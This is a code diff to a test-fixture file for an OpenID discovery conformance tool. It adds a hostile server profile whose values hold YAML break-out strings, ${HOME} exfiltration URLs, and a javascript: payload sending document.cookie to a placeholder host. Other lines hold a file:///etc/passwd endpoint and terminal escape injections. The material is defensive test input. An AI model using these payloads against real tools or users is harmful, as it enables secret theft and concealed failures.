@@ -1,4 +1,5 @@
 import type { FaultProfile } from './profiles.js';
+import type { MemberEdit } from './member-edits.js';
 
 const MB = 1024 * 1024;
 
@@ -10,6 +11,20 @@ const LOGIN_PAGE = '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><b
 // bare CR), a terminal (a colour, an OSC 8 hyperlink, an OSC 0 window title, a C1 CSI) and XML (U+FFFF).
 export const INJECTED_TEXT = ' see [the docs](http://127.0.0.1:1/docs) ![x](http://127.0.0.1:1/pixel.png) <img src="http://127.0.0.1:1/tag.png"> | cell |'
   + '\r# Heading\n- item \u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1:1/\u0007link\u001b]8;;\u0007 \u001b]0;owned\u0007 \u009b2J \uffff end';
+
+// Each closes the quote, flow map or comment a value would sit in if a suite were written by pasting text, and opens
+// its own member: a variable HOME read from the environment, a resource that sends it away, a docs link, a deviation
+// that hides a failure. The URLs are also not http(s), or not URLs at all (RFC 3986 has no braces).
+export const INIT_INJECTIONS: MemberEdit[] = [
+  { op: 'set', member: 'issuer', value: "http://127.0.0.1:1' }\n  HOME: { description: 'injected" },
+  { op: 'set', member: 'end_session_endpoint', value: "http://127.0.0.1:1/\nresources:\n  - { name: injected, url: 'http://127.0.0.1:1/?home=${HOME}', grant: system }\n#" },
+  { op: 'set', member: 'userinfo_endpoint', value: 'http://127.0.0.1:1/me?home=${HOME}' },
+  { op: 'set', member: 'revocation_endpoint', value: 'javascript:fetch(`//127.0.0.1:1/?${document.cookie}`)' },
+  { op: 'set', member: 'x\ndocs: http://127.0.0.1:1/injected\n#_endpoint', value: 'http://127.0.0.1:1/' },
+  { op: 'append', member: 'grant_types_supported', item: "refresh_token\ndeviations: { discovery.issuer-match: 'injected' }" },
+  { op: 'append', member: 'scopes_supported', item: "openid' }\n  SCOPE: {}\n#" },
+  { op: 'append', member: 'code_challenge_methods_supported', item: 'plain ${HOME}' },
+];
 
 /** Profiles whose server misbehaves at the transport level (hostile.ts): they break no rule, but no client may hang or crash on them. */
 export const hostileProfiles: FaultProfile[] = [
@@ -180,6 +195,14 @@ export const hostileProfiles: FaultProfile[] = [
     description: 'The discovery document names file:///etc/passwd as its authorization_endpoint: a browser login must not open it (suite local-browser).',
     breaks: [],
     faults: [{ kind: 'edit-body', endpoint: 'discovery', op: 'set', member: 'authorization_endpoint', value: 'file:///etc/passwd' }],
+    hostile: true,
+  },
+  {
+    name: 'init-injection',
+    description: 'The discovery document\'s values are YAML and ${VARIABLE} references built to break out of a suite written from them (`conformance init`): '
+      + 'a variable HOME, a resource that sends ${HOME} away, a docs link and a deviation, and javascript: and ${HOME} URLs as endpoints.',
+    breaks: [],
+    faults: INIT_INJECTIONS.map((edit) => ({ kind: 'edit-body', endpoint: 'discovery', ...edit })),
     hostile: true,
   },
   {
